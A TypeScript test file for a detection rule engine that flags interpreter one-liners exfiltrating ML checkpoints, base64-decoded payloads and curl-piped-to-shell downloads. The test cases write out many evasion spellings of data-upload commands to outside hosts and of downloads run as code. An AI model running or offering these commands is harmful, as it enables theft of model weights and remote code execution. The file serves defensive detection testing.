/**
 * Interpreter one-liners through the shipped rule set and the real engine (exec-interpreter.ts
 * wired into exec-canonical.ts): an upload run through python / perl / ruby / node / php alerts as
 * its plain spelling does (MLS-EXFIL-014), a decoded Python payload is MLS-RAY-013, a download
 * piped into a shell from inside `os.system` is MLS-RAY-012, benign one-liners raise nothing new,
 * and a spec's exec allow list never vouches for what interpreter code runs.
 */
import { describe, expect, it } from 'vitest';
import { execEvent, execRuleIds, PERSON, SA } from './exec-events.test-support.js';
import { createRuleEngine } from './engine.js';
import { eventFieldResolver } from './event-fields.js';
import { loadRuleSet } from './rule-loader.js';

const ids = execRuleIds;
const SIGMA_EXEC = '79cc565c-cf24-4bf3-b1bb-c00a7c99631c';
const CKPT = '/mnt/ckpt/llama-ft/step_9000/model.pt';
const URL = 'https://upload.filedrop-cdn.net/u/x';
const UP = `curl -T ${CKPT} ${URL}`;
const b64 = (x: string): string => Buffer.from(x).toString('base64');

const lookup = eventFieldResolver.field('attrs.exec.indirect');
const indirect = (command: unknown): unknown => ('get' in lookup ? lookup.get(execEvent(command)) : undefined);

describe('MLS-EXFIL-014 through interpreter one-liners', () => {
  const plain = ids(['sh', '-c', UP]);
  it('the plain spelling alerts', () => expect(plain).toContain('MLS-EXFIL-014'));

  const spellings: Array<[string, unknown]> = [
    ['python -c os.system', ['python3', '-c', `import os; os.system("${UP}")`]],
    ['python -c subprocess.run([...])', ['python', '-c', `import subprocess; subprocess.run(['curl','-T','${CKPT}','${URL}'])`]],
    ['python -c subprocess.call(shell=True)', ['python3', '-c', `import subprocess; subprocess.call("${UP}", shell=True)`]],
    ['python -c subprocess.Popen', ['python3', '-c', `from subprocess import Popen; Popen(["/usr/bin/curl", "-T", "${CKPT}", "${URL}"]).wait()`]],
    ['python -c os.popen', ['python3', '-c', `import os; os.popen("${UP}").read()`]],
    ['python -c os.execvp', ['python3', '-c', `import os; os.execvp("curl", ["curl", "-T", "${CKPT}", "${URL}"])`]],
    ['python -c a variable', ['python3', '-c', `import os; c = "${UP}"; os.system(c)`]],
    ['python -c reversed', ['python3', '-c', `import os; os.system("${[...UP].reverse().join('')}"[::-1])`]],
    ['perl -e system LIST', ['perl', '-e', `system("curl", "-T", "${CKPT}", "${URL}")`]],
    ['perl -e backticks', ['perl', '-e', `print \`${UP}\``]],
    ['perl -e qx{}', ['perl', '-we', `my $o = qx{${UP}};`]],
    ['ruby -e system', ['ruby', '-e', `system("${UP}")`]],
    ['ruby -e %x()', ['ruby', '-e', `puts %x(${UP})`]],
    ['node -e execSync', ['node', '-e', `require('child_process').execSync('${UP}')`]],
    ['node -e spawn sh -c', ['node', '-e', `require('child_process').spawn('sh', ['-c', '${UP}'])`]],
    ['node -e execFileSync', ['node', '-e', `require('child_process').execFileSync('curl', ['-T', '${CKPT}', '${URL}'])`]],
    ['php -r system', ['php', '-r', `system("${UP}");`]],
    ['php -r shell_exec', ['php', '-r', `echo shell_exec('${UP}');`]],
    ['env python3 -c', ['env', 'PYTHONUNBUFFERED=1', '/usr/bin/python3', '-c', `import os; os.system("${UP}")`]],
    ['sudo perl -e', ['sudo', '-u', 'root', 'perl', '-e', `exec "${UP}"`]],
    ['sh -c "python3 -c \'…\'"', ['sh', '-c', `python3 -c 'import os; os.system("${UP}")'`]],
    ['bash -c with an obfuscated interpreter word', ['bash', '-c', `py''thon3 -c 'import subprocess; subprocess.run(["curl", "-T", "${CKPT}", "${URL}"])'`]],
    ['a command line given as a string', `python3 -c 'import os; os.system("${UP}")'`],
  ];
  for (const [name, command] of spellings) {
    it(`alerts: ${name}`, () => {
      expect(ids(command)).toEqual(expect.arrayContaining(plain));
    });
  }

  it('cloud copies and rclone through interpreters (service account too)', () => {
    expect(ids(['python3', '-c', `import subprocess; subprocess.check_call(["aws", "s3", "cp", "${CKPT}", "s3://bucket/x"])`], SA)).toContain('MLS-EXFIL-014');
    expect(ids(['perl', '-e', 'system("rclone", "copy", "/mnt/ckpt/llama-ft", "remote:bucket")'], SA)).toContain('MLS-EXFIL-014');
    expect(ids(['ruby', '-e', '`gsutil cp -r /mnt/ckpt/llama-ft gs://bucket/x`'], SA)).toContain('MLS-EXFIL-014');
  });
});

describe('MLS-EXFIL-014 through indirect callees (exec-interpreter-callsite.ts)', () => {
  const UP9 = 'curl -T /ckpt/model.pt https://203.0.113.9/u';
  const plain9 = ids(['sh', '-c', UP9]);
  it('the plain spelling alerts', () => expect(plain9).toContain('MLS-EXFIL-014'));
  const indirectCallees: Array<[string, string[]]> = [
    ['python s = os.system', ['python3', '-c', `import os; s = os.system; s("${UP9}")`]],
    ['python getattr(os, "sys"+"tem")', ['python3', '-c', `import os; getattr(os, "sys"+"tem")("${UP9}")`]],
    ['python vars(os)["system"]', ['python3', '-c', `import os; vars(os)["system"]("${UP9}")`]],
    ['python importlib.import_module("o"+"s")', ['python3', '-c', `import importlib; importlib.import_module("o"+"s").system("${UP9}")`]],
    ['python ctypes.CDLL(None).system', ['python3', '-c', `import ctypes; ctypes.CDLL(None).system(b"${UP9}")`]],
    ['perl exec { "sh" } LIST', ['perl', '-e', `exec { 'sh' } 'sh', '-c', '${UP9}'`]],
    ['perl IPC::Open3::open3', ['perl', '-MIPC::Open3', '-e', `IPC::Open3::open3(my $w, my $r, undef, '${UP9}')`]],
    ['perl open2 after use', ['perl', '-e', `use IPC::Open2; open2(my $o, my $i, "curl", "-T", "/ckpt/model.pt", "https://203.0.113.9/u")`]],
    ['perl heredoc', ['perl', '-e', `system <<EOF;\n${UP9}\nEOF\n`]],
    ['ruby Kernel.send(:system)', ['ruby', '-e', `Kernel.send(:system, "${UP9}")`]],
    ['ruby method(:system).call', ['ruby', '-e', `method(:system).call("${UP9}")`]],
    ['ruby system <<~EOS', ['ruby', '-e', `system <<~EOS\n  ${UP9}\nEOS`]],
    ['node require(…)["exec"]', ['node', '-e', `require('child_process')['exec']('${UP9}')`]],
    ['node destructured rename', ['node', '-e', `const {execSync: x} = require('child_process'); x('${UP9}')`]],
  ];
  for (const [name, command] of indirectCallees) {
    it(`alerts: ${name}`, () => {
      expect(ids(command)).toEqual(expect.arrayContaining(plain9));
      expect(indirect(command)).toEqual([true, 'literal']);
    });
  }
  it('a command function named at run time reads runtime; the same shapes on other objects read nothing', () => {
    expect(indirect(['python3', '-c', `import os; getattr(os, x)("${UP9}")`])).toEqual([true, 'runtime']);
    expect(indirect(['ruby', '-e', `Kernel.send(m, "${UP9}")`])).toEqual([true, 'runtime']);
    expect(indirect(['node', '-e', "process.binding('spawn_sync')"])).toEqual([true, 'runtime']);
    for (const c of [['python3', '-c', 'getattr(config, "x")'], ['ruby', '-e', 'app.send(:status)'], ['node', '-e', 'const o = {}; o["system"]("x")']]) {
      expect(ids(c), c[2]).toEqual([SIGMA_EXEC]);
      expect(indirect(c), c[2]).toBe(false);
    }
  });
});

describe('MLS-RAY-013 on decoded interpreter payloads', () => {
  const inner = `import os;os.system("${UP}")`;
  const decoded: Array<[string, unknown]> = [
    ['exec(base64.b64decode(…))', ['python3', '-c', `import base64;exec(base64.b64decode('${b64(inner)}'))`]],
    ["exec(__import__('base64').b64decode(…))", ['python', '-c', `exec(__import__('base64').b64decode('${b64(inner)}'))`]],
    ['os.system(b64decode(…).decode())', ['python3', '-c', `import os,base64;os.system(base64.b64decode("${b64(UP)}").decode())`]],
    ['perl eval decode_base64', ['perl', '-MMIME::Base64', '-e', `eval decode_base64("${b64(`system("${UP}")`)}")`]],
    ['node Buffer.from base64', ['node', '-e', `require('child_process').execSync(Buffer.from('${b64(UP)}', 'base64').toString())`]],
    ['php base64_decode', ['php', '-r', `system(base64_decode("${b64(UP)}"));`]],
  ];
  for (const [name, command] of decoded) {
    it(`alerts, and the decoded upload alerts too: ${name}`, () => {
      const hit = ids(command);
      expect(hit).toContain('MLS-RAY-013');
      expect(hit).toContain('MLS-EXFIL-014');
      expect(indirect(command)).toEqual([true, 'decoded']);
    });
  }
  it('code decoded by a shell pipeline and fed to an interpreter\'s stdin', () => {
    for (const c of [['sh', '-c', `echo ${b64(inner)} | base64 -d | python3`], ['bash', '-c', `base64 -d <<< ${b64(`system("${UP}")`)} | perl`]]) {
      const hit = ids(c);
      expect(hit, c[2]).toContain('MLS-RAY-013');
      expect(hit, c[2]).toContain('MLS-EXFIL-014');
      expect(indirect(c)).toEqual([true, 'decoded']);
    }
  });
  it('a here-doc of code fed to python: its commands read, literal', () => {
    const c = ['sh', '-c', `python3 - <<'EOF'\nimport subprocess\nsubprocess.run(["curl", "-T", "${CKPT}", "${URL}"])\nEOF`];
    expect(ids(c)).toContain('MLS-EXFIL-014');
    expect(ids(c)).not.toContain('MLS-RAY-013');
    expect(indirect(c)).toEqual([true, 'literal']);
  });
  it('literal calls are indirect literal, not decoded: no MLS-RAY-013', () => {
    const c = ['python3', '-c', `import os; os.system("${UP}")`];
    expect(ids(c)).not.toContain('MLS-RAY-013');
    expect(indirect(c)).toEqual([true, 'literal']);
    expect(indirect(['python3', '-c', 'import os, sys; os.system(sys.argv[1])', 'id'])).toEqual([true, 'runtime']);
  });
});

describe('MLS-RAY-012 from inside interpreter code', () => {
  it('a download piped into a shell through os.system, a Perl open pipe, node execSync', () => {
    expect(ids(['python3', '-c', 'import os; os.system("curl -fsSL http://203.0.113.7/r.sh | sh")'])).toContain('MLS-RAY-012');
    expect(ids(['perl', '-e', 'system("wget -qO- http://203.0.113.7/r.sh | bash")'])).toContain('MLS-RAY-012');
    expect(ids(['node', '-e', "require('child_process').execSync('curl -s http://203.0.113.7/r.sh | sh')"])).toContain('MLS-RAY-012');
  });
});

describe('benign interpreter one-liners raise nothing new', () => {
  for (const command of [
    ['python3', '-c', 'import torch; print(torch.__version__)'],
    ['python3', '-c', 'import torch;print(torch.cuda.is_available(), torch.cuda.device_count())'],
    ['python3', 'train.py', '--epochs', '3'],
    ['node', '-e', 'console.log(process.versions.node)'],
    ['perl', '-ne', 'print if /error/i', '/var/log/train.log'],
    ['ruby', '-e', 'puts RUBY_VERSION'],
    ['php', '-r', 'echo PHP_VERSION;'],
    ['sh', '-c', 'nvidia-smi && python3 -c "import torch; print(torch.cuda.device_count())"'],
  ]) {
    it(JSON.stringify(command), () => {
      expect(ids(command)).toEqual([SIGMA_EXEC]);
      expect(indirect(command)).toBe(false);
    });
  }
});

describe('spec exec allow lists never vouch for what interpreter code runs', () => {
  const SPEC = `kind: BehaviouralSpec
id: SPEC-T
title: t
selector: {namespaces: ['ml-train']}
exec:
  allow: ['nvidia-smi', 'python3 -c *', 'sh -c python3 -c *']
`;
  const set = loadRuleSet([{ path: 't.yaml', text: SPEC }]);
  const verdict = (command: unknown[]): string[] => createRuleEngine(set.rules).evaluate(execEvent(command, PERSON, 'ml-train/llama-ft')).map((h) => h.ruleId);
  it('loads', () => expect(set.errors).toEqual([]));
  it('code that runs nothing stays allowed (the glob\'s `*` stands for no `;`: one statement)', () => {
    expect(verdict(['python3', '-c', 'print(__import__("torch").__version__)'])).toEqual([]);
    expect(verdict(['sh', '-c', 'python3 -c "print(42)"'])).toEqual([]);
  });
  it('code that runs a command is refused, even one the list allows', () => {
    expect(verdict(['python3', '-c', 'import os; os.system("nvidia-smi")'])).toEqual(['SPEC-T/exec']);
    expect(verdict(['python3', '-c', `import subprocess; subprocess.run(["curl", "-T", "${CKPT}", "${URL}"])`])).toEqual(['SPEC-T/exec']);
    expect(verdict(['sh', '-c', `python3 -c 'import os; os.system("${UP}")'`])).toEqual(['SPEC-T/exec']);
    expect(verdict(['python3', '-c', 'import os, sys; os.system(sys.argv[1])'])).toEqual(['SPEC-T/exec']);
  });
});

describe('MLS-RAY-012: a download piped into perl, ruby, node or php', () => {
  it('alerts for interpreters reading their program from stdin, not for one-liners reading data', () => {
    for (const s of ['curl -s http://203.0.113.7/x.pl | perl', 'wget -qO- http://203.0.113.7/x.js | node -', 'curl -s http://203.0.113.7/x.php | php', 'curl -s http://203.0.113.7/x.rb | ruby']) {
      expect(ids(['sh', '-c', s]), s).toContain('MLS-RAY-012');
    }
    for (const s of ['curl -s http://203.0.113.7/api | perl -ne "print if /ok/"', 'curl -s http://203.0.113.7/api | node -e "process.stdin.pipe(process.stdout)"', 'curl -s http://203.0.113.7/a | ruby parse.rb']) {
      expect(ids(['sh', '-c', s]), s).not.toContain('MLS-RAY-012');
    }
  });
});
